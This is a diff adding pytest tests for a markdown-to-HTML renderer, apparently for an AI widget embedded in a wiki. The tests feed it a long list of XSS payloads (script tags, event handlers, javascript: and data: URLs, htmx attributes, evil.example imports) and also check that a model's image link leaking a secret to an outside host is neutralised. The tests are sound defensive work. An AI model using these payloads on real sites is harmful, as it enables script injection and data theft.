@@ -1,0 +1,197 @@
+from html.parser import HTMLParser
+
+import pytest
+
+from widget.markdown import ATTRIBUTES, TAGS, render, target
+
+WIKI = ("https://wiki.example.com",)
+PAGE = "https://wiki.example.com/guide/start/"
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<img/src=`x`onerror=alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<base href=//evil.example>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<div style='background:url(javascript:alert(1))'>x</div>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<div hx-get='/asks' hx-trigger='load'>x</div>",
+    "<div hx-on:click='alert(1)'>x</div>",
+    "<div data-hx-get='/asks' data-hx-trigger='load'>x</div>",
+    "<div sse-connect='//evil.example'>x</div>",
+    "<span hx-swap-oob='innerHTML:#log'>x</span>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://wiki.example.com/1)",
+    "[x](filesystem:https://wiki.example.com/1)",
+    "[x](view-source:https://wiki.example.com)",
+    "[x](//evil.example)",
+    "[x](\\\\evil.example)",
+    "[x](https:evil.example)",
+    "[x](https://)",
+    "[x](https://[::1)",
+    "[x](https://a:99999999/)",
+    "[x](https://e.example/ 'onmouseover=alert(1)')",
+    '[x](https://e.example/"onmouseover=alert(1))',
+    '[x](https://e.example/ "\\"><script>alert(1)</script>")',
+    "[<img src=x onerror=alert(1)>](https://e.example/)",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![x](data:image/png;base64,AAAA)",
+    '![x"onerror="alert(1)](https://e.example/x.png)',
+    '![x](https://e.example/x.png"onerror=alert(1))',
+    "[![x](javascript:alert(1))](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "```js\n</code></pre><script>alert(1)</script>\n```",
+    "```python onload=alert(1)\nx\n```",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
+    "# <script>alert(1)</script>",
+    "> <script>alert(1)</script>",
+    "- <img src=x onerror=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "{{ 7 * 7 }}{% raw %}",
+    "\x00<script>alert(1)</script>",
+    "\u2028<script>alert(1)</script>",
+    "<\u0073cript>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+]
+
+
+class Elements(HTMLParser):
+    """Every tag and attribute of a piece of HTML."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
+    parser = Elements()
+    parser.feed(html)
+    return parser.found
+
+
+@pytest.mark.parametrize("images", [True, False])
+@pytest.mark.parametrize("base", ["", PAGE])
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_nothing_hostile_survives(payload: str, base: str, images: bool) -> None:
+    for tag, attributes in elements(render(payload, origins=WIKI, base=base, images=images)):
+        assert tag in TAGS
+        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}
+        for name in ("href", "src"):
+            if name in attributes:
+                assert str(attributes[name]).startswith(("https://", "http://", "mailto:"))
+        if tag == "a" and "href" in attributes:
+            assert attributes["rel"] == "noopener nofollow"
+            assert attributes["target"] in ("_top", "_blank")
+
+
+@pytest.mark.parametrize("depth", [50, 5000])
+def test_deep_nesting_neither_hangs_nor_crashes(depth: int) -> None:
+    for piece in (">", "- ", "[", "*a **b ", "![", "`"):
+        assert isinstance(str(render(piece * depth)), str)
+
+
+def test_links_into_the_wiki_replace_the_page_and_others_open_a_tab() -> None:
+    html = render(
+        "[a](https://wiki.example.com/x/) [b](https://other.example/) [c](mailto:a@b.c)",
+        origins=WIKI,
+    )
+    links = [attributes for tag, attributes in elements(html) if tag == "a"]
+    assert [link["target"] for link in links] == ["_top", "_blank", "_blank"]
+    assert target("https://wiki.example.com.evil.example/", WIKI) == "_blank"
+
+
+def test_relative_links_start_from_the_page() -> None:
+    html = render("[a](../ports/) [b](#linux) [c](/top) ![d](d.png)", base=PAGE, images=True)
+    found = [str(a.get("href") or a.get("src")) for tag, a in elements(html) if tag in ("a", "img")]
+    assert found == [
+        "https://wiki.example.com/guide/ports/",
+        "https://wiki.example.com/guide/start/#linux",
+        "https://wiki.example.com/top",
+        "https://wiki.example.com/guide/start/d.png",
+    ]
+
+
+@pytest.mark.parametrize("link", ["[ports](../ports/)", "[ports](ports.md#x)"])
+def test_a_link_that_leads_nowhere_is_only_text(link: str) -> None:
+    base = PAGE if ".md" in link else ""
+    assert render(link, base=base) == "<p>ports</p>\n"
+
+
+def test_a_models_image_is_a_link_unless_it_lies_in_the_wiki() -> None:
+    html = render(
+        "![leak](https://evil.example/?q=secret) ![ok](https://wiki.example.com/a.png)",
+        origins=WIKI,
+    )
+    sources = [attributes["src"] for tag, attributes in elements(html) if tag == "img"]
+    assert sources == ["https://wiki.example.com/a.png"]
+    assert ">leak</a>" in html
+
+
+def test_code_is_highlighted_with_classes_only() -> None:
+    html = render("```python\nprint('a')  # b\n```")
+    assert '<span class="nb">print</span>' in html
+    assert "style" not in html
+
+
+def test_tables_align_without_style_attributes() -> None:
+    html = render("| a | b |\n|--:|:-:|\n| 1 | 2 |")
+    assert '<td class="right">1</td>' in html
+    assert '<td class="center">2</td>' in html
+    assert "style" not in html
+
+
+def test_headings_stand_below_the_question() -> None:
+    assert render("# a") == "<h3>a</h3>\n"
+    assert render("###### a") == "<h6>a</h6>\n"
